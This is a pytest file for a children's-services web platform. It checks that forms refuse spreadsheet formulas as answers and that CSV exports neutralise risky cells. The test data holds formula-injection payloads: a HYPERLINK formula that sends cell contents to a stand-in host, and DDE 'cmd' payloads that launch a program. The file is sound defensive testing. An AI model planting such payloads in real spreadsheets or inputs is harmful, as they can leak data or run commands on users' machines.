"""Spreadsheet formulas: refused on every page's form, neutralised in every CSV the platform writes."""

import csv
import io

import pytest

from joinedup.accounts.models import RoleCode
from joinedup.accounts.tests.factories import UserFactory
from joinedup.agencies.tests.factories import AgencyFactory
from joinedup.assessments.models import RiskAssessment
from joinedup.assessments.services import risk_assessment_start
from joinedup.children.models import Child
from joinedup.children.tests.factories import ChildFactory
from joinedup.jobs.services import children_export_build, children_export_request
from joinedup.spreadsheet import cell_safe, is_formula_answer
from joinedup.web.forms import FORMULA_REFUSED

ATTACK = '=HYPERLINK("http://example.invalid/?x="&A1,"Open")'


@pytest.mark.parametrize("answer", [ATTACK, "=1+1", "+SUM(A1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "  =A1"])
def test_a_formula_is_refused_as_an_answer(answer):
    assert is_formula_answer(answer)


@pytest.mark.parametrize(
    "answer",
    ["- seen with two adults\n- phone off", "+ attended school", "-12.5", "+44 7700 900123", "@kay_x", "Kay", "-", ""],
)
def test_bullets_numbers_phones_and_handles_are_answers_not_formulas(answer):
    assert not is_formula_answer(answer)


@pytest.mark.parametrize(
    ("cell", "written"),
    [(ATTACK, "'" + ATTACK), ("- seen", "'- seen"), ("\tx", "'\tx"), ("-12.5", "-12.5"), ("Kay", "Kay"), (None, "")],
)
def test_every_csv_cell_that_could_run_is_neutralised(cell, written):
    assert cell_safe(cell) == written


def test_the_new_child_form_refuses_a_formula_name_and_records_nobody(db, sign_in):
    agency = AgencyFactory.create()
    client = sign_in(UserFactory.create(agency=agency))

    page = client.post("/children/new/", {"given_name": ATTACK, "family_name": "Okafor", "sex": "unknown"})

    assert page.status_code == 200
    assert FORMULA_REFUSED in page.content.decode().replace("&#x27;", "'")
    assert not Child.objects.exists()


def test_the_assessment_page_refuses_a_formula_in_the_childs_views_and_saves_nothing(db, sign_in):
    agency = AgencyFactory.create()
    practitioner = UserFactory.create(agency=agency)
    child = ChildFactory.create(owning_agency=agency)
    assessment = risk_assessment_start(user=practitioner, child=child)

    page = sign_in(practitioner).post(
        f"/assessments/{assessment.pk}/edit/", {"childs_views": "=cmd|' /C calc'!A0", "family_views": "Worried"}
    )

    assert page.status_code == 200
    assert FORMULA_REFUSED in page.content.decode().replace("&#x27;", "'")
    stored = RiskAssessment.objects.get(pk=assessment.pk)
    assert (stored.childs_views, stored.family_views) == ("", "")


def test_the_children_export_writes_a_formula_name_as_text(db):
    agency = AgencyFactory.create()
    coordinator = UserFactory.create(agency=agency, roles=[RoleCode.COORDINATOR])
    ChildFactory.create(owning_agency=agency, given_name=ATTACK, family_name="-2+3+cmd")

    job = children_export_build(job_id=children_export_request(user=coordinator).pk)

    rows = list(csv.DictReader(io.StringIO(job.result_text)))
    assert [(r["given_name"], r["family_name"]) for r in rows] == [("'" + ATTACK, "'-2+3+cmd")]
